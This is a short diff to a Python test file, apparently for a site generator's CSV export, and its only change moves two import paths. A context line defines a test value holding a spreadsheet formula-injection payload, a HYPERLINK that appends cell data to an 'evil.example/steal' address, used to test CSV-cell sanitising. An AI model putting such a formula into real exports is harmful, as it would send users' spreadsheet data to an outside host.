@@ -23,8 +23,8 @@ import pytest
 from test_site_fixtures import add_notice, build_tiny_site, make_tiny_db
 
 from models.record import Category, NoticeMeta, ParsedNotice, Party
-from sitegen.csvsafe import FORMULA_STARTS, csv_safe_cell
-from sitegen.downloads import NAMES
+from sitegen.core.csvsafe import FORMULA_STARTS, csv_safe_cell
+from sitegen.pages.downloads import NAMES
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看处罚详情")'
 HOSTILE_TEXTS = {
